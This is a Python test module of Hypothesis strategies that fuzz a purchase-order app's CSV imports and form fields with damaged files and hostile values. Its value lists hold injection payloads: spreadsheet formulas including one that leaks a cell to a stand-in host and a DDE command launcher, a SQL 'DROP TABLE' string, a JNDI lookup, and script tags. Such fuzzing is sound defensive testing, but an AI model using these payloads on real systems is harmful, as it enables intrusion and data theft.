"""Hypothesis strategies for hostile input: CSV files a person, a spreadsheet or an attacker
might upload, and garbage for query strings and form fields.

Two kinds of file: plain garbage (random bytes, random CSV-ish text), and *valid-looking*
files (rows a real sheet would have) that are then damaged: one cell replaced by a hostile
value, the header shuffled or broken, the text re-encoded, line ends changed, bytes injected.
The valid-looking ones matter most: garbage is refused at the first line, while a file that
is right but for one cell reaches the models, the database and the code that runs after the
commit.

The budget of each test is the profile below: `BAD_INPUT` (CI; tests multiply its examples
by what one example covers), or, for a long local hunt,
`HYPOTHESIS_BAD_INPUT_PROFILE=bad-input-long pytest tests/unit/test_bad_*.py`
(`HYPOTHESIS_BAD_INPUT_EXAMPLES=N` sets the CI profile's count).
"""

from __future__ import annotations

import csv
import io
import os
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from datetime import date, timedelta
from typing import Any

from hypothesis import HealthCheck, settings
from hypothesis import strategies as st

from orders import csv_format, demo

settings.register_profile(
    "bad-input",
    # Each example runs an import (or a request) against the database, so examples are few
    # and the deadline is off: PostgreSQL on a busy 2-core machine varies by 10x.
    # CI runs the suite twice (SQLite, PostgreSQL): these tests stay under a minute a run.
    max_examples=int(os.environ.get("HYPOTHESIS_BAD_INPUT_EXAMPLES", "10")),
    deadline=None,
    # The database and the logged-in client are per-test fixtures; each example rolls back
    # its own writes (see tests/unit/test_bad_csv.py), so sharing them is safe.
    suppress_health_check=[
        HealthCheck.function_scoped_fixture,
        HealthCheck.too_slow,
        HealthCheck.data_too_large,
    ],
    print_blob=True,
)
settings.register_profile("bad-input-long", settings.get_profile("bad-input"), max_examples=1000)
BAD_INPUT = settings.get_profile(os.environ.get("HYPOTHESIS_BAD_INPUT_PROFILE", "bad-input"))

# --- Cells ----------------------------------------------------------------------------------------

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1",
    "-1",
    "-2 weeks",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    "'=1+1",
    "''=1",
    "\t=1",
    "\r=1",
    "'",
]
NUMBERS = [
    "0",
    "-0",
    "+5",
    "-1",
    "1.5",
    "0.001",
    "1e3",
    "1E+5",
    "1e400",
    "-1e-400",
    "NaN",
    "nan",
    "-NaN",
    "sNaN",
    "inf",
    "-Infinity",
    "1_000",
    "1,000",
    "$10,000.00",
    "10 000",
    "0x10",
    "٣٣",  # Arabic-Indic digits
    "\uff11\uff12",  # full-width digits
    "9" * 30,
    "-" + "9" * 30,
    "2147483648",
    "9223372036854775808",
    "99999999999999.99",
    "100000000000000000.00",
]
DATES = [
    "2023-02-30",
    "2023-02-29",
    "2024-02-29",
    "0000-01-01",
    "0001-01-01",
    "9999-12-31",
    "99999-01-01",
    "2023-13-01",
    "2023-00-10",
    "2023-1-5",
    "2023-04-14T00:00",
    "2023-04-14 ",
    "14/04/2023",
    "04/14/2023",
    "20230414",
    "\uff12\uff10\uff12\uff13-\uff10\uff14-\uff11\uff14",  # full-width
    "2023-04-14\x00",
    "1900-01-01",
    "2999-01-01",
]
TEXT = [
    "",
    " ",
    "\t",
    "\u00a0",
    "\ufeff",
    "\u202e",  # right-to-left override
    "\u200b",
    "😀",
    "Société Générale",
    "株式会社",
    "<script>alert(1)</script>",
    "Robert'); DROP TABLE orders_purchaseorder;--",
    "${jndi:ldap://evil.example/a}",
    "%s%s%s%n",
    "{{ 7*7 }}",
    "a\nb",
    "a\r\nb",
    'say "hi"',
    "a,b",
    "\x00",
    "x\x00y",
    "\x1b[31m",
    "usd",
    "US$",
    "€",
    "XXX",
    "DRAFT",
    "cancelled",
    "received",
    "not-an-email",
    "a@b",
    "@example.com",
    "x" * 300 + "@example.com",
    "A100 80GB SXM",
    "a100 80gb sxm",
    "H100 SXM",
    "Unknown GPU",
    "GPU 0GB",
    "GPU 99999999999GB",
    "PO-2023-0412",
    "po-2023-0412",
    "Pacific Silicon Distribution",
    "x" * 65,
    "x" * 501,
]
HOSTILE_CELLS = FORMULAS + NUMBERS + DATES + TEXT


def hostile_cell() -> st.SearchStrategy[str]:
    """One cell's worth of trouble: a curated nasty value, random text, or a huge field."""
    return st.one_of(
        st.sampled_from(HOSTILE_CELLS),
        st.text(max_size=20),
        st.integers(min_value=1_000, max_value=200_000).map(lambda n: "x" * n),
        st.sampled_from(HOSTILE_CELLS).flatmap(
            lambda base: st.sampled_from(["=", "-", " ", "'", "\t"]).map(lambda p: p + base)
        ),
    )


# --- Valid-looking files ------------------------------------------------------------------------

_TODAY = date.today()
_EARLIEST = date(2022, 1, 1)
_LATEST = date(2023, 6, 30)


def _day(low: date = _EARLIEST, high: date = _LATEST) -> st.SearchStrategy[date]:
    return st.dates(min_value=low, max_value=max(low, high))


def _price(low: str = "0") -> st.SearchStrategy[str]:
    return st.decimals(min_value=low, max_value=99_999, places=2).map(lambda d: format(d, "f"))


@dataclass(frozen=True)
class Known:
    """What the database holds that a valid-looking file refers to."""

    vendors: Sequence[str]
    gpu_models: Sequence[str]
    buyers: Sequence[str]
    # (PO number, placed_on, the GPU model names of its lines)
    orders: Sequence[tuple[str, date, Sequence[str]]]


# The demo data (orders.demo), which the tests load: read from its definition rather than the
# database so strategies exist when tests are collected (and @example can name files).
DEMO = Known(
    vendors=[vendor[0] for vendor in demo.VENDORS],
    gpu_models=[gpu[0] for gpu in demo.GPU_MODELS],
    buyers=[user[3] for user in demo.USERS],
    orders=[
        (order.po_number, order.placed_on, [line[0] for line in order.lines])
        for order in demo.ORDERS
    ],
)


ORDER_HEADER = csv_format.ORDERS_IMPORT.imported
QUOTE_HEADER = csv_format.QUOTES_IMPORT.imported
PRICE_HEADER = csv_format.PRICES_IMPORT.imported
STATUSES = ("", "draft", "placed", "confirmed", "partially_received", "received", "cancelled")
CURRENCIES = ("USD", "EUR", "GBP", "CNY", "JPY")


@st.composite
def order_rows(draw: Any, known: Known) -> list[list[str]]:
    """Rows of a correct orders sheet: new POs (1-4) with 1-2 lines each, known or new
    vendors and buyers, known GPU models, and sometimes a whole-order quote on each row."""
    rows = []
    for n in range(draw(st.integers(min_value=1, max_value=4))):
        placed_on = draw(_day())
        need_by = draw(st.none() | _day(placed_on, placed_on + timedelta(days=400)))
        quote = draw(st.booleans())
        quoted_on = draw(_day(placed_on, placed_on + timedelta(days=60)))
        delivery = draw(_day(quoted_on, quoted_on + timedelta(days=300)))
        order = {
            "po_number": f"PO-H-{draw(st.integers(min_value=1, max_value=9999))}-{n}",
            "vendor": draw(st.sampled_from([*known.vendors, "Hostile Test Vendor"])),
            "buyer_email": draw(st.sampled_from([*known.buyers, "new.buyer@example.com"])),
            "status": draw(st.sampled_from(STATUSES)),
            "currency": draw(st.sampled_from(CURRENCIES)),
            "placed_on": placed_on.isoformat(),
            "need_by": need_by.isoformat() if need_by else "",
            "quoted_on": quoted_on.isoformat() if quote else "",
            "delivery_date": delivery.isoformat() if quote else "",
        }
        gpus = draw(
            st.lists(st.sampled_from(known.gpu_models), min_size=1, max_size=2, unique=True)
        )
        for gpu in gpus:
            line = {
                "gpu_model": gpu,
                "quantity": str(draw(st.integers(min_value=1, max_value=5000))),
                "unit_price": draw(_price()),
            }
            rows.append([(order | line)[column] for column in ORDER_HEADER])
    return rows


@st.composite
def quote_rows(draw: Any, known: Known) -> list[list[str]]:
    """Rows of a correct re-quote sheet for recorded orders, for a whole order or a line."""
    rows = []
    for _ in range(draw(st.integers(min_value=1, max_value=6))):
        po, placed_on, gpus = draw(st.sampled_from(known.orders))
        quoted_on = draw(_day(placed_on, _TODAY))
        delivery = draw(_day(quoted_on, quoted_on + timedelta(days=400)))
        note = draw(st.sampled_from(["", "re-quote", "pushed again, sorry"]))
        gpu = draw(st.sampled_from(["", *gpus]))
        rows.append([po, quoted_on.isoformat(), delivery.isoformat(), note, gpu])
    return rows


@st.composite
def price_rows(draw: Any, known: Known) -> list[list[str]]:
    """Rows of a correct price sheet: known vendors and GPU models, a day not in the future."""
    return [
        [
            draw(st.sampled_from(known.vendors)),
            draw(st.sampled_from(known.gpu_models)),
            draw(_price("0.01")),  # a price quote is positive; an order line may be free
            draw(st.sampled_from(CURRENCIES)),
            draw(_day(_EARLIEST, _TODAY)).isoformat(),
            draw(st.sampled_from(["", "list price", "spot"])),
        ]
        for _ in range(draw(st.integers(min_value=1, max_value=6)))
    ]


@dataclass(frozen=True)
class Sheet:
    """A file to import and how it was made (hypothesis prints it when a test fails)."""

    content: bytes
    how: str
    # For a file damaged in one cell only: the spreadsheet row of that cell, and the
    # spreadsheet rows of every row that shares its key (the PO of an orders file), which
    # are the only rows an error may name.
    mutated_row: int | None = None
    related_rows: frozenset[int] = frozenset()


def _write(header: Sequence[str], rows: Sequence[Sequence[str]], line_end: str = "\r\n") -> str:
    out = io.StringIO()
    csv.writer(out, lineterminator=line_end).writerows([header, *rows])
    return out.getvalue()


@st.composite
def one_cell_mutated(
    draw: Any,
    rows: st.SearchStrategy[list[list[str]]],
    header: Sequence[str],
    key_column: str,
) -> Sheet:
    """A correct sheet with exactly one cell replaced by a hostile value."""
    body = draw(rows)
    r = draw(st.integers(min_value=0, max_value=len(body) - 1))
    c = draw(st.integers(min_value=0, max_value=len(header) - 1))
    value = draw(hostile_cell())
    key = header.index(key_column)
    old_key = body[r][key]
    body[r][c] = value
    related = frozenset(
        i + 2 for i, row in enumerate(body) if row[key] in (old_key, body[r][key]) or i == r
    )
    return Sheet(
        _write(header, body).encode(),
        f"row {r + 2}, column {header[c]} := {value[:80]!r}",
        mutated_row=r + 2,
        related_rows=related,
    )


def _header_damage() -> st.SearchStrategy[Callable[[list[str], list[list[str]]], str]]:
    """Ways to break a header (and the rows under it, to keep them aligned)."""

    def drop(i: int) -> Callable[[list[str], list[list[str]]], str]:
        def apply(header: list[str], rows: list[list[str]]) -> str:
            i_ = i % len(header)
            name = header.pop(i_)
            for row in rows:
                if i_ < len(row):  # a row made short by another damage
                    row.pop(i_)
            return f"dropped column {name}"

        return apply

    def rename(i: int, new: str) -> Callable[[list[str], list[list[str]]], str]:
        def apply(header: list[str], rows: list[list[str]]) -> str:
            i_ = i % len(header)
            old = header[i_]
            header[i_] = old.upper() if new == "UPPER" else new.format(old=old)
            return f"renamed {old} -> {header[i_]!r}"

        return apply

    def duplicate(i: int) -> Callable[[list[str], list[list[str]]], str]:
        def apply(header: list[str], rows: list[list[str]]) -> str:
            i_ = i % len(header)
            header.append(header[i_])
            for row in rows:
                row.append(row[i_] if i_ < len(row) else "")
            return f"duplicated column {header[i_]}"

        return apply

    def extra(name: str) -> Callable[[list[str], list[list[str]]], str]:
        def apply(header: list[str], rows: list[list[str]]) -> str:
            header.append(name)
            for row in rows:
                row.append("extra")
            return f"added column {name!r}"

        return apply

    def reorder(seed: int) -> Callable[[list[str], list[list[str]]], str]:
        def apply(header: list[str], rows: list[list[str]]) -> str:
            order = sorted(range(len(header)), key=lambda j: (j * 7919 + seed) % 101)
            header[:] = [header[j] for j in order]
            for row in rows:
                row[:] = [row[j] for j in order if j < len(row)]
            return f"reordered columns {header}"

        return apply

    def ragged(delta: int) -> Callable[[list[str], list[list[str]]], str]:
        def apply(header: list[str], rows: list[list[str]]) -> str:
            row = rows[0]
            if delta > 0:
                row.extend(["surplus"] * delta)
            else:
                del row[delta:]
            return f"first row {delta:+d} cells"

        return apply

    index = st.integers(min_value=0, max_value=20)
    return st.one_of(
        index.map(drop),
        st.tuples(
            index,
            st.sampled_from(["", " ", "\t", "{old} ", " {old}", "UPPER", "\ufeff{old}"]),
        ).map(lambda t: rename(*t)),
        st.tuples(index, st.sampled_from(["{old}_x", "PO_NUMBER", "{old}\x00"])).map(
            lambda t: rename(*t)
        ),
        index.map(duplicate),
        st.sampled_from(["unknown", "", " ", "open_alerts", "slip_days", "=1+1"]).map(extra),
        st.integers(min_value=0, max_value=100).map(reorder),
        st.integers(min_value=-3, max_value=3).filter(bool).map(ragged),
    )


ENCODINGS = ("utf-8", "utf-8-sig", "latin-1", "cp1252", "utf-16", "utf-16-le", "utf-16-be")


@st.composite
def damaged_file(
    draw: Any, rows: st.SearchStrategy[list[list[str]]], header: Sequence[str]
) -> Sheet:
    """A correct sheet damaged as a whole: its header, its encoding, its line ends, or its
    bytes (NUL, a stray quote, truncation, appended garbage). Several damages may combine."""
    body = draw(rows)
    columns = list(header)
    how = []
    for damage in draw(st.lists(_header_damage(), max_size=2)):
        how.append(damage(columns, body))
    if draw(st.booleans()):
        # Non-ASCII text in a free-text cell, so the encoding matters.
        body[0][-1] = draw(st.sampled_from(["Société", "Zürich №5", "株式会社", "naïve ½"]))
    line_end = draw(st.sampled_from(["\r\n", "\n", "\r"]))
    text = _write(columns, body, line_end)
    encoding = draw(st.sampled_from(ENCODINGS))
    how.append(f"{encoding}, line end {line_end!r}")
    content = text.encode(encoding, errors="replace")
    if draw(st.booleans()):
        # Mixed: the second half in another encoding.
        other = draw(st.sampled_from(ENCODINGS))
        half = len(text) // 2
        content = text[:half].encode(encoding, "replace") + text[half:].encode(other, "replace")
        how.append(f"second half {other}")
    for _ in range(draw(st.integers(min_value=0, max_value=2))):
        at = draw(st.integers(min_value=0, max_value=len(content)))
        kind = draw(st.sampled_from(["nul", "quote", "truncate", "garbage", "cr", "bom"]))
        if kind == "truncate":
            content = content[:at]
        else:
            insert = {
                "nul": b"\x00",
                "quote": b'"',
                "cr": b"\r",
                "bom": b"\xef\xbb\xbf",
                "garbage": draw(st.binary(min_size=1, max_size=8)),
            }[kind]
            content = content[:at] + insert + content[at:]
        how.append(f"{kind} at byte {at}")
    return Sheet(content, "; ".join(how))


def garbage_file(header: Sequence[str]) -> st.SearchStrategy[Sheet]:
    """Files that were never CSV of this kind: random bytes, CSV-ish text under a correct
    header or none, a workbook signature, a header with nothing under it."""
    csvish = st.text(alphabet=st.sampled_from(list(',"\r\n \t-.:@0123456789POé\ufeff\x00')))
    head = ",".join(header) + "\n"
    return st.one_of(
        st.binary(max_size=500).map(lambda b: Sheet(b, "random bytes")),
        csvish.map(lambda t: Sheet(t.encode(), "CSV-ish text")),
        csvish.map(lambda t: Sheet((head + t).encode(), "header + CSV-ish text")),
        st.lists(st.lists(hostile_cell(), min_size=1, max_size=len(header) + 2), max_size=5).map(
            lambda rows: Sheet(_write(header, rows).encode(), "header + hostile rows")
        ),
        st.sampled_from(
            [
                Sheet(b"PK\x03\x04\x14\x00\x06\x00", "xlsx signature"),
                Sheet(head.encode(), "header only"),
                Sheet(b"\xef\xbb\xbf", "BOM only"),
                Sheet(b"\r\n\r\n", "blank lines"),
                Sheet(b",,,\n,,,\n", "empty cells only"),
                Sheet(("\ufeff" + head).encode("utf-16"), "UTF-16 header"),
            ]
        ),
    )


def sheets(
    rows: st.SearchStrategy[list[list[str]]], header: Sequence[str], key_column: str
) -> st.SearchStrategy[Sheet]:
    """Every kind of hostile file for one import."""
    return st.one_of(
        one_cell_mutated(rows, header, key_column),
        damaged_file(rows, header),
        garbage_file(header),
    )


# --- Parameters (query strings and form fields) ------------------------------------------------

PARAM_VALUES = [
    "",
    " ",
    "0",
    "-1",
    "1",
    "2",
    "abc",
    "1.5",
    "1e5",
    "NaN",
    "99999999999999999999",
    "-9223372036854775809",
    "2147483648",
    "\x00",
    "1\x00",
    "%00",
    "😀",
    "' OR 1=1 --",
    "<script>",
    "x" * 3000,
    "2023-02-30",
    "0000-01-01",
    "99999-01-01",
    "2023-04-14",
    "true",
    "yes",
    "on",
    "None",
    "null",
    "[]",
    "{}",
    "__proto__",
    "..",
    "/",
    "\\",
    "\r\n",
]


def param_value() -> st.SearchStrategy[str]:
    """A hostile value for a query-string parameter or a form field."""
    return st.one_of(st.sampled_from(PARAM_VALUES), st.text(max_size=30))
